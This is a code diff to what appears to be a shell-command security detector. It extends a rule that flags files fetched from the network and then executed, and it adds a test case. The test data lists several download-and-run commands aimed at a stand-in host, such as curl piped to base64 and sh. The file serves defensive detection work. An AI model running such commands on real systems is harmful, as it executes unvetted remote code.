@@ -76,6 +76,14 @@ def _download_exec(subject: Subject) -> Iterator[Hit]:
             yield _exec_hit(command.id, command.program)
         elif not command.program and command.executable[:1] == "\0" and _is_fetched(command, fetched):
             yield _exec_hit(command.id, "(fetched text)")
+    unplaced = {
+        fact.value: command.id
+        for command, fact in subject.touched(Access.WRITE, Access.APPEND)
+        if "\0" in fact.value and command.id in fetching | fetched
+    }
+    for command in subject.acting():  # a file below a directory that is not known, and run from there
+        if unplaced.get(command.executable, command.id) < command.id:
+            yield _exec_hit(command.id, command.program or "(fetched text)")
     saved = dict(_saved(subject, fetching | fetched))
     for command_id, path in _executed(subject):
         if path in saved and saved[path] < command_id:
@@ -168,6 +176,7 @@ RULES: Final = (
             "curl -s https://x.example | base64 -d | sh",
             'bash -c "$(curl -s https://x.example)"',
             "curl https://x.example | xargs -0 bash -c",
+            'curl -o "$D/java" https://x.example/j; "$D/java" -v',
         ),
         passes=(
             "curl -s https://x.example | jq .",
